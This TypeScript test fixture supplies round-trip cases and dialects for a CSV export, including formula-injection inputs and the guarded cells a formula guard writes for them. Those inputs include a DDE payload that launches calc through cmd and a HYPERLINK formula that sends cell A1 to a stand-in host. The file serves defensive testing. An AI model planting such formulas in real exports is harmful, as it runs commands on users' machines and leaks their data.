/** The CSV cases of the export: values every reader must read back exactly, and the dialects to try them in. */
import type { CsvReadOptions } from './python-csv';

/**
 * Every case of the export issue: separators, quotes, the escape character anywhere, line breaks, unicode, and
 * cells a spreadsheet would run as formulas (written as they are unless the formula guard is on).
 */
export function valuesFor(o: CsvReadOptions): string[] {
  const { sep, quotechar: q, escapechar: e } = o;
  const escapes = e === null ? [] : [e, `${e}${e}`, `${e}start`, `end${e}`, `mid${e}dle`, `${e}${q}`, `${e}${sep}`];
  return [
    'plain',
    `a${sep}b`,
    sep,
    `say ${q}hi${q}`,
    q,
    `${q}${q}`,
    `${q}${q}${q}`,
    `"double" and 'single'`,
    ...escapes,
    'C:\\data\\x.txt',
    '\\n as text, \\t too',
    '\\',
    'lone\rcr',
    'lf\nline',
    'crlf\r\nline',
    '\r',
    '\n',
    'tab\there',
    '  leading and trailing  ',
    ' ',
    '日本語 🚀 emoji 👩‍👩‍👧 and RTL שלום عربى',
    `${q}${e ?? q}${sep}\r\n mixed ${e ?? q}`,
    ...formulaCases(o).map(([value]) => value),
    '',
  ];
}

/**
 * Cells a spreadsheet runs as formulas (OWASP's first characters: = + - @ tab CR), each with the cell the formula
 * guard writes for it; and text the guard keeps as it is (plain numbers, other first characters).
 */
export function formulaCases(o: CsvReadOptions): [value: string, guarded: string][] {
  const runs = (v: string): [string, string] => [v, `'${v}`];
  const kept = (v: string): [string, string] => [v, v];
  return [
    runs('=1+1'),
    runs('=HYPERLINK("http://example.invalid/?"&A1,"click")'),
    runs("+cmd|' /C calc'!A0"),
    runs('-2+3'),
    runs('@SUM(A1:A2)'),
    runs('\t=1+1'),
    runs('\r=1+1'),
    runs('-'),
    runs('-1-1'),
    runs('+1e'),
    runs('=日本語 🚀'),
    kept(`${o.quotechar}=1+1`),
    kept(`a${o.sep}=1+1`),
    kept(' =1+1'),
    kept('\n=1+1'),
    kept("'=1+1"),
    kept('-1'),
    kept('+2.5'),
    kept('-1e3'),
    kept('-1.'),
    kept('-.5'),
    kept('1=1'),
  ];
}

/**
 * The documented default, other one-byte dialects, one of multi-byte characters (written row by row), and RFC 4180
 * (no escape character, quotes doubled) both ways.
 */
export const csvDialects: CsvReadOptions[] = [
  { sep: ',', quotechar: '"', escapechar: '\\' },
  { sep: ';', quotechar: "'", escapechar: '/' },
  { sep: '\t', quotechar: '"', escapechar: '\\' },
  { sep: '|', quotechar: '`', escapechar: '~' },
  { sep: '；', quotechar: '«', escapechar: '¬' },
  { sep: ',', quotechar: '"', escapechar: null },
  { sep: '；', quotechar: '«', escapechar: null },
];
